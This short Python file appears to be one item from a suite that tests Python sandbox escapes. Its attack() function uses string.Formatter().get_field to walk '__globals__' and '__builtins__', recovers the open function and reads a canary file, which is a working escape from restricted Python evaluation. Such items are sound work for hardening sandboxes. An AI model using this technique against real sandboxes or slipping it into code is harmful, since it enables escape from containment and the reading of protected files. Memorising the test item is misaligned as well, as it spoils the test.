# desc: string.Formatter walks any path of attributes, and hands back what it finds
# class: escape
# wins: told
import string

def attack(state):
    names, _ = string.Formatter().get_field("0.__globals__[__builtins__]", (attack,), {})
    names = names if isinstance(names, dict) else vars(names)
    return "L2:" + names["open"]("@CANARY@").read()
